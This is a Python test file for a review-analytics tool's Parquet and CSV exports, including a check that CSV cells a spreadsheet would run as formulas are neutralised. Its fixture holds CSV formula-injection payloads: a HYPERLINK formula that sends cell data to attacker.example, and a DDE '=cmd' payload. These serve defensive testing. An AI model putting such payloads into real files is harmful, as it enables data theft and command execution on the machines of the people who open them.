"""Exports: Parquet datasets that read back identically, and CSV files safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import duckdb
import pytest
from click.testing import CliRunner

import db
from cli import main
from demo_database import demo_settings, write_cli_config
from exports import EXPORTED_VIEWS, export_views, guard_cell, render_rows
from ingest.collect import collect_all


def read_parquet_dataset(folder) -> str:
    return (
        f"read_parquet('{folder.as_posix()}/**/*.parquet', hive_partitioning = true,"
        " hive_types = {'location_id': VARCHAR, 'week_start': DATE})"
    )


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    settings = demo_settings(tmp_path_factory)
    con = db.connect(settings.database_path, read_only=True)
    yield settings, con
    con.close()


def test_parquet_export_reads_back_with_identical_rows(demo, tmp_path):
    _, con = demo
    written = export_views(con, tmp_path / "out", fmt="parquet")
    assert written == [tmp_path / "out" / view for view in EXPORTED_VIEWS]
    reader = duckdb.connect()
    for view, folder in zip(EXPORTED_VIEWS, written):
        expected = con.execute(f"SELECT count(*) FROM {view}").fetchone()[0]
        assert expected > 0, f"the demo practice has no {view} rows to export"
        assert reader.execute(f"SELECT count(*) FROM {read_parquet_dataset(folder)}").fetchone()[0] == expected, view
    # Partitioned by location and by the practice-local week, in Hive layout.
    partitions = sorted(p.relative_to(written[0]).parts[:2] for p in written[0].rglob("*.parquet"))
    expected = con.execute(
        "SELECT DISTINCT 'location_id=' || location_id, 'week_start=' || week_start FROM v_reviews ORDER BY ALL"
    ).fetchall()
    assert partitions == expected
    # Content, not only counts: the same reviews with the same theme lists and text, byte for byte.
    key = "review_id, location_id, week_start, complaint_themes, praise_themes, text, sentiment_score"
    exported = reader.execute(f"SELECT {key} FROM {read_parquet_dataset(written[0])} ORDER BY review_id").fetchall()
    assert exported == con.execute(f"SELECT {key} FROM v_reviews ORDER BY review_id").fetchall()


def test_since_keeps_rows_dated_on_or_after_the_day(demo, tmp_path):
    _, con = demo
    since = con.execute("SELECT max(created_date) - 30 FROM v_reviews").fetchone()[0]
    written = export_views(con, tmp_path / "out", fmt="parquet", since=since)
    reader = duckdb.connect()
    dataset = read_parquet_dataset(written[0])
    count, earliest = reader.execute(f"SELECT count(*), min(created_date) FROM {dataset}").fetchone()
    assert count == con.execute("SELECT count(*) FROM v_reviews WHERE created_date >= ?", [since]).fetchone()[0]
    assert 0 < count < con.execute("SELECT count(*) FROM v_reviews").fetchone()[0]
    assert earliest >= since
    weekly = written[list(EXPORTED_VIEWS).index("v_weekly_themes")]
    # v_weekly_themes keeps a week when any of its days is on or after `since`.
    first_week, weeks = reader.execute(f"SELECT min(week_start), count(*) FROM {read_parquet_dataset(weekly)}").fetchone()
    assert first_week + timedelta(days=6) >= since
    assert weeks == con.execute("SELECT count(*) FROM v_weekly_themes WHERE week_start > ? - 7", [since]).fetchone()[0]


def test_a_second_export_replaces_the_first(demo, tmp_path):
    _, con = demo
    export_views(con, tmp_path, fmt="parquet")
    latest = con.execute("SELECT max(created_date) FROM v_reviews").fetchone()[0]
    export_views(con, tmp_path, fmt="parquet", since=latest)
    reader = duckdb.connect()
    count = reader.execute(f"SELECT count(*) FROM {read_parquet_dataset(tmp_path / 'v_reviews')}").fetchone()[0]
    assert count == con.execute("SELECT count(*) FROM v_reviews WHERE created_date >= ?", [latest]).fetchone()[0]


HOSTILE_CSV = """\
Review ID,Clinic,Patient,Stars,Date,Comment,Response
h-1,Main Street,@SUM(1+1),1,2026-03-02,"=HYPERLINK(""http://attacker.example/?d=""&A1,""Click for a refund"")",
h-2,Main Street,Pat,2,2026-03-03,+1 555 0100 never answers,
h-3,Main Street,Lee,2,2026-03-04,-2 stars: they billed me twice,"=cmd|' /C calc'!A0"
h-4,Main Street,Sam,5,2026-03-05,"Lovely staff, 5 = excellent",
"""


def test_csv_export_guards_cells_a_spreadsheet_would_run(settings, tmp_path):
    (settings.sources[1].path / "hostile.csv").write_text(HOSTILE_CSV, encoding="utf-8")
    with db.open_job(settings) as con:
        assert [r.status for r in collect_all(con, settings)] == ["ok"]
    con = db.connect(settings.database_path, read_only=True)
    try:
        written = export_views(con, tmp_path / "csv", fmt="csv")
        parquet = export_views(con, tmp_path / "parquet", fmt="parquet")
    finally:
        con.close()
    assert written == [tmp_path / "csv" / f"{view}.csv" for view in EXPORTED_VIEWS]
    with open(written[0], newline="", encoding="utf-8") as fp:
        rows = {row["source_review_id"]: row for row in csv.DictReader(fp)}
    assert rows["h-1"]["text"] == "'" + '=HYPERLINK("http://attacker.example/?d="&A1,"Click for a refund")'
    assert rows["h-1"]["author"] == "'@SUM(1+1)"
    assert rows["h-2"]["text"] == "'+1 555 0100 never answers"
    assert rows["h-3"]["text"] == "'-2 stars: they billed me twice"
    assert rows["h-3"]["reply_text"] == "'=cmd|' /C calc'!A0"
    assert rows["h-4"]["text"] == "Lovely staff, 5 = excellent"  # only a leading character is a formula
    assert [rows[k]["rating"] for k in ("h-1", "h-2", "h-3", "h-4")] == ["1", "2", "2", "5"]  # numbers stay numbers
    # The guard is for spreadsheets only: Parquet keeps the text exactly as written.
    texts = duckdb.connect().execute(f"SELECT text FROM {read_parquet_dataset(parquet[0])} ORDER BY text").fetchall()
    assert texts[0] == ("+1 555 0100 never answers",)


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_prefix_is_guarded_in_query_output(cell):
    assert guard_cell(cell) == "'" + cell
    out = render_rows(["text", "n"], [(cell, -1)], "csv")
    assert list(csv.reader(io.StringIO(out, newline=""))) == [["text", "n"], ["'" + cell, "-1"]]


def test_safe_cells_are_left_alone():
    assert [guard_cell(c) for c in ["", "a=b", " =1", "'=1", "1+1"]] == ["", "a=b", " =1", "'=1", "1+1"]


def test_export_command_writes_every_view(demo, tmp_path):
    settings, _ = demo
    config = write_cli_config(settings, tmp_path / "cfg")
    result = CliRunner().invoke(main, ["-c", str(config), "export", "--format", "csv", "--since", "2026-01-01",
                                       "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [str(tmp_path / "out" / f"{view}.csv") for view in EXPORTED_VIEWS]
    bad = CliRunner().invoke(main, ["-c", str(config), "export", "--since", "last week"])
    assert bad.exit_code == 2 and "last week" in bad.output


def test_since_of_a_future_day_exports_nothing_but_still_writes(demo, tmp_path):
    _, con = demo
    written = export_views(con, tmp_path, fmt="csv", since=date(2999, 1, 1))
    with open(written[0], encoding="utf-8") as fp:
        assert fp.read().splitlines()[0].startswith("review_id,source,")
    assert all(len(p.read_text(encoding="utf-8").splitlines()) == 1 for p in written)


def test_an_output_path_that_is_a_file_is_a_one_line_error(demo, tmp_path):
    settings, _ = demo
    config = write_cli_config(settings, tmp_path / "cfg")
    (tmp_path / "taken").write_text("not a folder")
    result = CliRunner().invoke(main, ["-c", str(config), "export", "--out", str(tmp_path / "taken" / "exports")])
    assert result.exit_code == 2
    assert result.output.count("\n") == 1
    assert result.output.startswith(f"error: {tmp_path / 'taken' / 'exports'}: cannot create the export folder")
